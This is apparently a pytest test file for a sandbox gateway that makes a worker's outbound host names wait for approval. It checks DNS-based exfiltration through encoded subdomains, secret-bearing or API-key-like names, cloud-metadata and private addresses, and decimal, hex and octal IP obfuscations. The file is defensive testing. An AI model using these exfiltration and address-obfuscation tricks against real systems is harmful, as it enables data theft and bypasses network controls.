"""Asking for a name, at the gateway itself (no engine): a real gateway whose proxy asks a real
SQLite store, the sandbox played by a client on its socket, and the host's DNS played by a spy
that records every name looked up (and answers for the test's own names). The worker is the
attacker: it picks the names, the forms of address and the ports."""

from __future__ import annotations

import re
import socket
from pathlib import Path

import pytest
from support.gateway_sockets import Events
from support.tasks import new_task
from support.upstream import Upstream

from bridge.config.settings import GatewayConfig
from bridge.gateway.policy import check_ranges, request_refusal
from bridge.gateway.server import PROXY_SOCKET, Gateway
from bridge.phase.network import PENDING_TTL_S, NetworkAsker
from bridge.redact import Redactor
from bridge.store import Store

_real_getaddrinfo = socket.getaddrinfo


SEARCH = "corp.example"  # the host's resolv.conf `search` domain, as the spy plays it


class Dns:
    """The host's resolver, spied on: ``names`` answer with their address (an absolute name,
    with its trailing dot, as itself), others as usual. Like glibc with a `search` line, a
    relative name that does not resolve is tried again under SEARCH."""

    def __init__(self, names: dict[str, str]) -> None:
        self.names = names
        self.asked: list[str] = []

    def __call__(self, host, port, *args, **kwargs):
        name = host.decode() if isinstance(host, bytes) else str(host)
        self.asked.append(name.rstrip("."))
        for candidate in [name.rstrip(".")] + ([] if name.endswith(".") else [f"{name}.{SEARCH}"]):
            if candidate in self.names:
                address = self.names[candidate]
                return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]
        return _real_getaddrinfo(host, port, *args, **kwargs)


def running_task(store: Store, task_id: str = "t1") -> str:
    store.insert_task(new_task(task_id, objective="x"), {})
    with store.transaction() as conn:
        store.set_status(conn, task_id, "created", "queued")
        store.set_status(conn, task_id, "queued", "running")
    return task_id


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def dns(monkeypatch):
    spy = Dns({})
    monkeypatch.setattr(socket, "getaddrinfo", spy)
    return spy


@pytest.fixture
def asking(workdir, upstream, dns):
    """A started gateway asking the store of a running task, on two ports (the upstream's and
    a second upstream's); loopback trusted, so that a name the spy points there is reached."""
    other = Upstream().start()
    store = Store(workdir / "bridge.db")
    task_id = running_task(store)
    clock, redactor = Clock(), Redactor()
    asker = NetworkAsker(
        store, task_id, 0, redact=redactor.redact, max_requests=8, timeout_s=3600, clock=clock
    )
    config = GatewayConfig(
        trusted_ranges=["127.0.0.0/8"],
        connect_ports=[upstream.port, other.port],
        http_ports=[upstream.port],
    )
    events = Events()
    gw = Gateway(workdir / "gw", {}, [], config, events, asker=asker).start()
    env = {
        "gw": gw,
        "store": store,
        "task_id": task_id,
        "clock": clock,
        "asker": asker,
        "events": events,
        "redactor": redactor,
        "other": other,
    }
    try:
        yield env
    finally:
        gw.stop()
        other.stop()
        store.close()


def tunnel(folder: Path, host: str, port: int) -> tuple[int, str]:
    """CONNECT HOST:PORT as a sandbox would: the status, and the refusal's body or, once
    tunnelled, what a GET through the tunnel got."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(20)
        s.connect(str(folder / PROXY_SOCKET))
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            if not (chunk := s.recv(65536)):
                break
            head += chunk
        status = int(head.split(b" ", 2)[1])
        if status != 200:
            length = int(re.search(rb"content-length: *(\d+)", head, re.I)[1])
            while len(head.partition(b"\r\n\r\n")[2]) < length:
                if not (chunk := s.recv(65536)):
                    break
                head += chunk
            return status, head.partition(b"\r\n\r\n")[2].decode(errors="replace")
        s.sendall(b"GET /asked HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        return status, data.decode(errors="replace")


def approve(env, host: str, port: int) -> str:
    [request] = [
        r
        for r in env["store"].requests.for_task(env["task_id"])
        if r.detail == {"host": host, "port": port}
    ]
    assert env["store"].requests.resolve(env["task_id"], request.request_id, "approved", {}, {})
    env["clock"].now += PENDING_TTL_S + 1  # the gateway reads the store again
    return request.request_id


def test_a_name_off_the_list_is_asked_for_without_any_lookup_and_resolved_once_approved(
    asking, dns, upstream
):
    exfil = "c2VjcmV0LWRhdGE.exfil.example"  # data in a subdomain, for the attacker's DNS
    dns.names[exfil.lower()] = "127.0.0.1"
    status, body = tunnel(asking["gw"].folder, exfil, upstream.port)
    assert status == 403 and "asked for it as request r" in body
    assert not [name for name in dns.asked if "exfil" in name]  # nothing looked up
    [request] = asking["store"].requests.for_task(asking["task_id"])
    assert request.status == "pending" and request.detail == {
        "host": exfil.lower(),
        "port": upstream.port,
    }
    approve(asking, exfil.lower(), upstream.port)
    status, body = tunnel(asking["gw"].folder, exfil, upstream.port)
    assert status == 200 and "/asked" in body
    assert exfil.lower() in dns.asked  # resolved only now, once approved


def test_an_approved_name_that_resolves_to_a_refused_address_class_is_still_refused(
    asking, dns, upstream
):
    dns.names["inside.example"] = "10.1.2.3"
    dns.names["meta.example"] = "169.254.169.254"
    for name, why in (("inside.example", "a private address"), ("meta.example", "metadata")):
        assert tunnel(asking["gw"].folder, name, upstream.port)[0] == 403
        rid = approve(asking, name, upstream.port)
        status, body = tunnel(asking["gw"].folder, name, upstream.port)
        assert status == 403 and f"approved as request {rid}, but resolves to" in body
        assert why in body


@pytest.mark.parametrize(
    ("host", "why"),
    [
        ("8.8.8.8", "an address"),
        ("134744072", "an address"),  # 8.8.8.8 in decimal
        ("0x08080808", "an address"),  # in hex
        ("010.010.010.010", "an address"),  # in octal
        ("8.8.2056", "an address"),  # the short dotted form
        ("0x7f.1", "an address"),
        ("127.0.0.1", "an address"),  # trusted here, still no name to ask for
        ("[::1]", "an address"),
        ("[::ffff:a9fe:a9fe]", "an address (a cloud metadata address)"),
        ("*.example.com", "not a valid host name"),
        ("a*b.example.com", "not a valid host name"),
        ("under_score.example", "not a valid host name"),
        ("-dash.example", "not a valid host name"),
        ("a..b.example", "not a valid host name"),
        ("x" * 64 + ".example", "not a valid host name"),
        ("localhost", "a name of the local network"),
        ("db.localhost", "a name of the local network"),
        ("metadata.google.internal", "a name of the local network"),
        ("printer.local", "a name of the local network"),
    ],
)
def test_an_address_a_pattern_a_bad_name_or_a_local_one_is_refused_without_a_request(
    asking, dns, upstream, host, why
):
    status, body = tunnel(asking["gw"].folder, host, upstream.port)
    assert status == 403, body
    assert why in body and "refused without a request" in body
    assert asking["store"].requests.for_task(asking["task_id"]) == []
    assert dns.asked == []


def test_a_name_the_hosts_file_puts_on_a_refused_address_class_is_never_asked_for(tmp_path):
    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 localhost vm\n10.0.0.7 db.corp # office\n8.8.8.8 dns.example\n")
    assert "loopback" in (request_refusal("vm", [], hosts) or "")
    assert "private" in (request_refusal("DB.corp.", [], hosts) or "")
    assert request_refusal("dns.example", [], hosts) is None
    trusted = check_ranges(["127.0.0.0/8"])
    assert request_refusal("vm", trusted, hosts) is None  # a trusted range: asked for
    assert request_refusal("pypi.org", [], hosts) is None


def test_an_approval_opens_its_own_port_and_no_other(asking, dns, upstream):
    dns.names["api.example"] = "127.0.0.1"
    other = asking["other"].port
    assert tunnel(asking["gw"].folder, "api.example", upstream.port)[0] == 403
    first = approve(asking, "api.example", upstream.port)
    assert tunnel(asking["gw"].folder, "api.example", upstream.port)[0] == 200
    status, body = tunnel(asking["gw"].folder, "api.example", other)  # allowed by connect_ports
    assert status == 403 and "asked for it as request" in body and first not in body
    hosts = {
        (r.detail["port"], r.status) for r in asking["store"].requests.for_task(asking["task_id"])
    }
    assert hosts == {(upstream.port, "approved"), (other, "pending")}


def test_a_storm_of_refused_attempts_is_counted_without_a_write_per_attempt(
    asking, upstream, monkeypatch
):
    store = asking["store"]
    asked = []
    attempt = store.requests.network_attempt
    monkeypatch.setattr(
        store.requests, "network_attempt", lambda *a, **k: asked.append(a) or attempt(*a, **k)
    )
    for _ in range(40):
        assert tunnel(asking["gw"].folder, "storm.example", upstream.port)[0] == 403
    assert len(asked) == 1  # one write while the clock stands
    asking["clock"].now += PENDING_TTL_S + 1
    assert tunnel(asking["gw"].folder, "storm.example", upstream.port)[0] == 403
    assert len(asked) == 2
    [request] = store.requests.for_task(asking["task_id"])
    assert request.attempts == 41  # the 39 cached ones went with the second write
    tunnel(asking["gw"].folder, "storm.example", upstream.port)
    asking["asker"].flush()
    assert store.requests.for_task(asking["task_id"])[0].attempts == 42


def test_a_name_holding_a_secret_is_refused_without_being_stored(asking, upstream):
    secret = "k9x2m7q4w8e1r5t3"
    asking["redactor"].add_secret(secret)
    status, body = tunnel(asking["gw"].folder, f"{secret}.exfil.example", upstream.port)
    assert status == 403 and "asked for" not in body
    assert asking["store"].requests.for_task(asking["task_id"]) == []


def test_a_request_arriving_after_a_cancel_is_dropped(tmp_path):
    store = Store(tmp_path / "bridge.db")
    task_id = running_task(store)
    with store.transaction() as conn:
        store.set_status(conn, task_id, "running", "cancelled")
    args = {"turn": 0, "expires_at": 2e9, "max_requests": 4}
    assert store.requests.network_attempt(task_id, "late.example", 443, **args) == (
        "ended",
        None,
    )
    assert store.requests.add(task_id, "question", {"text": "?"}, turn=0, expires_at=2e9) is None
    assert store.requests.for_task(task_id) == []
    assert [e.kind for e in store.events(task_id) if e.kind == "task.request"] == []


def test_past_max_requests_a_new_name_is_refused_without_asking_the_store(
    asking, upstream, monkeypatch
):
    store = asking["store"]
    for i in range(8):  # the fixture's max_requests
        assert tunnel(asking["gw"].folder, f"n{i}.example", upstream.port)[0] == 403
    asked = []
    attempt = store.requests.network_attempt
    monkeypatch.setattr(
        store.requests, "network_attempt", lambda *a, **k: asked.append(a) or attempt(*a, **k)
    )
    for i in range(8, 30):
        status, body = tunnel(asking["gw"].folder, f"n{i}.example", upstream.port)
        assert status == 403 and "asked for" not in body
    assert len(asked) == 1  # the first one over learns it; the others ask nothing
    assert len(store.requests.for_task(asking["task_id"])) == 8


def test_an_approved_name_is_looked_up_as_itself_never_under_the_hosts_search_domain(
    asking, dns, upstream
):
    """The caller approves `wiki` (or `build.example`); the host's resolver must not turn it
    into `wiki.corp.example`, a name of the host's own network nobody approved."""
    for name in ("wiki", "build.example"):
        dns.names[f"{name}.{SEARCH}"] = "127.0.0.1"  # trusted here: only the name stops it
        assert tunnel(asking["gw"].folder, name, upstream.port)[0] == 403
        rid = approve(asking, name, upstream.port)
        status, body = tunnel(asking["gw"].folder, name, upstream.port)
        assert status == 502 and f"approved as request {rid}, but does not resolve" in body


def test_an_approved_name_the_hosts_file_maps_is_reached_at_its_address(tmp_path):
    from bridge.gateway.policy import hosts_addresses

    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 localhost vm\n192.0.2.7 Mirror.Example\n")
    assert hosts_addresses("mirror.example.", hosts) == ["192.0.2.7"]
    assert hosts_addresses("vm", hosts) == ["127.0.0.1"]
    assert hosts_addresses("other.example", hosts) == []


def test_a_storm_of_distinct_names_that_raise_no_request_leaves_nothing_kept_per_name(
    asking, upstream
):
    """Names holding a secret (or asked once the task ended) raise no request; the worker can
    make endless ones, so the runner hosting the gateway must not keep one entry per name."""
    asker = asking["asker"]
    for i in range(300):
        host = f"sk-{'a' * 24}{i}.exfil.example"  # redacted: looks like an API key
        assert asker(host, upstream.port) == ("withheld: it looks like a secret", None)
    store, task_id = asking["store"], asking["task_id"]
    with store.transaction() as conn:
        store.set_status(conn, task_id, "running", "cancelled")
    for i in range(300):
        assert asker(f"late{i}.example", upstream.port) == ("ended", None)
    assert len(asker._known) <= 1 and store.requests.for_task(task_id) == []
